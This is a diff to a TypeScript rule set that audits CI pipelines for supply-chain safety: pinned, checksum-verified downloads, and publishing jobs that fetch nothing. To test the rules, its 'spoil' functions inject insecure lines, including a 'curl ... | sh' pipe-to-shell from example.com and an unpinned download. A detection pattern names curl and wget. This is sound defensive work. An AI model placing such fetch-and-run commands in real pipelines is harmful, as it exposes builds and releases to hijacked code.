@@ -74,6 +74,19 @@ const rules: { says: string; complaints: (pipeline: string) => string[]; spoil: 
     spoil: (pipeline) => pipeline.replaceAll('persist-credentials: false', 'persist-credentials: true'),
   },
   {
+    says: 'what is fetched is one version, kept as a file, and held against its checksum before it is used',
+    complaints: (pipeline) =>
+      pipeline
+        .split('\n')
+        .flatMap((line, at, lines) => (/\bcurl\b/.test(line) ? [[line, lines[at + 1] ?? '']] : []))
+        .filter(([fetched = '', next = '']) => {
+          const [, file = '?'] = /--output (\S+) https:\/\/\S+\/v\d+\.\d+\.\d+\/\S+$/.exec(fetched) ?? [];
+          return /echo '[0-9a-f]{64} {2}(\S+)' \| sha256sum --check --strict$/.exec(next)?.[1] !== file;
+        })
+        .map(([fetched = '']) => fetched),
+    spoil: (pipeline) => `${pipeline}      - run: curl --location https://example.com/releases/latest/tool | tar xz\n`,
+  },
+  {
     says: 'no expression stands inside a script',
     complaints: (pipeline) => pipeline.match(/^\s*(?:- )?run:.*\$\{\{.*$/gm) ?? [],
     spoil: (pipeline) => `${pipeline}      - run: echo \${{ github.ref_name }}\n`,
@@ -84,7 +97,7 @@ const publishingRules: typeof rules = [
   {
     says: 'somebody publishes',
     complaints: (pipeline) => (jobsOf(pipeline).some(({ publishes }) => publishes) ? [] : ['nobody']),
-    spoil: (pipeline) => pipeline.replaceAll(/id-token: write|\$\{\{ secrets\.\w+ \}\}/g, 'none'),
+    spoil: (pipeline) => pipeline.replaceAll(/(?:id-token|contents): write|\$\{\{ secrets\.\w+ \}\}/g, 'none'),
   },
   {
     says: 'who may publish installs and builds nothing',
@@ -97,17 +110,17 @@ const publishingRules: typeof rules = [
     says: 'what is published was built by a job that may not, and its checksums came another way',
     complaints: perPublisher(
       ({ text }) =>
-        /needs: (\[check, )?build\]?\n/.test(text) &&
+        /needs: (\[check, )?build(, mcp)?\]?\n/.test(text) &&
         /actions\/download-artifact@/.test(text) &&
         /CHECKSUMS: \$\{\{ needs\.build\.outputs\.checksums \}\}\n\s+run: .*sha256sum --check --strict\n\s+working-directory: release/.test(
           text,
         ),
     ),
-    spoil: (pipeline) => pipeline.replace('sha256sum --check --strict', 'cat'),
+    spoil: (pipeline) => pipeline.replaceAll('sha256sum --check --strict', 'cat'),
   },
   {
     says: 'the checksums are checked before anything is published',
-    complaints: perPublisher(({ text }) => /sha256sum[^]*(npm publish|uploadZapier)/.test(text)),
+    complaints: perPublisher(({ text }) => /sha256sum[^]*(npm publish|uploadZapier|mcp-publisher publish|gh release create)/.test(text)),
     spoil: (pipeline) => pipeline.replaceAll(/^ {6}- name: It is what was built[^]*?working-directory: release\n/gm, ''),
   },
   {
@@ -118,6 +131,11 @@ const publishingRules: typeof rules = [
           !/^npm publish \.\/[\w*[\]-]*\.tgz --provenance --access public --ignore-scripts\n\s+working-directory: release\n$/.test(step),
       ),
     spoil: (pipeline) => pipeline.replace(' --ignore-scripts', ''),
+  },
+  {
+    says: 'who may publish fetches nothing but what was built',
+    complaints: perPublisher(({ text }) => !/\b(curl|wget|git clone|go install)\b/.test(text)),
+    spoil: (pipeline) => pipeline.replace('npm publish', 'curl https://example.com/tool | sh && npm publish'),
   },
   {
     says: 'who may publish reads no cache',
